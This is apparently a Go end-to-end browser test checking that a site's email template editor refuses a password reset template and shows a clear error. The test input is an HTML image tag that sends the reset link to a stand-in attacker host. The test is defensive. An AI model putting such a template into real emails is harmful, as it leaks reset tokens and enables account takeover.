package e2e

import (
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// An owner edits the password reset email and puts the reset link in an
// image's address: saving is refused, the message stands next to the HTML
// field, and what was typed is still there to correct.
func TestOwnerIsToldWhereTheResetLinkMayGo(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.createAcme(ownerPassword)
	s.serve()
	b := newBrowser(t)
	b.signIn(s.url("acme", "/"), "sign-in", "owner@acme.test", ownerPassword, `[data-testid=dashboard]`)

	const leaky = `<p>Hello</p><img src="https://attacker.example/p.gif?u={{ACTION_URL}}">`
	b.do("open the password reset email",
		chromedp.Click(chromedp.CSS(`[data-testid=nav-email-templates]`)),
		chromedp.WaitVisible(chromedp.CSS(`[data-testid=email-template-list]`)),
		chromedp.Click(chromedp.CSS(`[data-testid=email-template-row][data-name=password_reset] [data-testid=email-template-edit]`)),
		chromedp.WaitVisible(chromedp.ID(`email-html`)),
	)
	b.do("type a template with the link in an image, and save",
		chromedp.Clear(chromedp.ID(`email-html`)),
		chromedp.SendKeys(chromedp.ID(`email-html`), leaky),
		chromedp.Click(chromedp.CSS(`[data-testid=email-save]`)),
		chromedp.WaitVisible(chromedp.CSS(`[data-testid=error-html]`)),
	)
	msg := b.text(`[data-testid=error-html]`)
	if !strings.Contains(msg, "{{ACTION_URL}} on line 1 is in the src attribute of <img>") || !strings.Contains(msg, "whole address of a link") {
		t.Errorf("message = %q", msg)
	}
	// Next to the field: the message follows the HTML body's textarea.
	if next := run(b, "find the field before the message", chromedp.Evaluate[string](
		`document.querySelector('[data-testid=error-html]').previousElementSibling.id`)); next != "email-html" {
		t.Errorf("the message follows %q, not the HTML field", next)
	}
	if got := run(b, "read the HTML field", chromedp.Value(chromedp.ID(`email-html`))); got != leaky {
		t.Errorf("the field holds %q after the refusal", got)
	}
	if out := s.nself("", "whitelabel", "email", "show", "acme", "password_reset"); !strings.Contains(out, "(default)") {
		t.Errorf("the refused template was saved:\n%s", out)
	}
}
